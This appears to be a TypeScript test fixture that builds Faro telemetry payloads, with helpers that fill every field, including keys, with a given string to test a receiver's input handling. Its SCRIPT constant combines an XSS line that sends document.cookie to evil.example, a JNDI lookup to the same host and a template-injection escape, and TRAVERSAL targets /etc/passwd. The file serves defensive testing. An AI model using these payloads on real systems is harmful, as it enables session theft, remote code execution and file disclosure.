/** Payloads of Faro, as an attacker would write them. */

export const SCRIPT = `"><script>fetch('//evil.example/'+document.cookie)</script>\${jndi:ldap://evil.example/a}{{constructor.constructor('return process')()}}`;

export const TRAVERSAL = "../../../../../../etc/passwd";

export function faro(parts: Readonly<Record<string, unknown>>): string {
  return JSON.stringify({ meta: { session: { id: "s-1" } }, ...parts });
}

export function logLine(message: string, timestamp: string = new Date().toISOString()): string {
  return faro({ logs: [{ message, level: "info", timestamp }] });
}

/** A payload in which every text is this one, also those that name things. */
export function everywhere(text: string): string {
  const context = { [text]: text, handled: text, n: text, trail: text, causes: text };
  const frames = [{ filename: text, function: text, lineno: 1, colno: 1, bundleid: text }];
  return JSON.stringify({
    meta: {
      app: {
        name: text,
        namespace: text,
        release: text,
        version: text,
        environment: text,
        bundleId: text,
        installationId: text,
      },
      session: { id: text, attributes: { [text]: text } },
      user: { id: text, email: text, username: text, attributes: { [text]: text } },
      page: { id: text, url: `https://shop.example/${text}`, attributes: { [text]: text } },
      view: { name: text },
      browser: { name: text, version: text, os: text, mobile: text, language: text, brands: text },
      sdk: { name: text, version: text },
    },
    logs: [
      {
        message: `all is ${text}`,
        level: text,
        timestamp: text,
        context,
        trace: { trace_id: text, span_id: text },
      },
    ],
    exceptions: [{ type: text, value: text, stacktrace: { frames }, context, timestamp: text }],
    measurements: [{ type: text, values: { [text]: 1, lcp: text }, context, timestamp: text }],
    events: [{ name: text, domain: text, attributes: { [text]: text }, timestamp: text }],
    traces: {
      resourceSpans: [
        {
          resource: { attributes: [{ key: "service.name", value: { stringValue: text } }] },
          scopeSpans: [{ spans: [{ name: text, traceId: text, spanId: text }] }],
        },
      ],
    },
  });
}

export function thrown(message: string, bundleid: string): string {
  return faro({
    exceptions: [
      {
        type: "Error",
        value: message,
        timestamp: new Date().toISOString(),
        stacktrace: {
          frames: [
            {
              filename: "https://shop.example/app.js",
              function: "a",
              lineno: 1,
              colno: 1,
              bundleid,
            },
          ],
        },
      },
    ],
  });
}
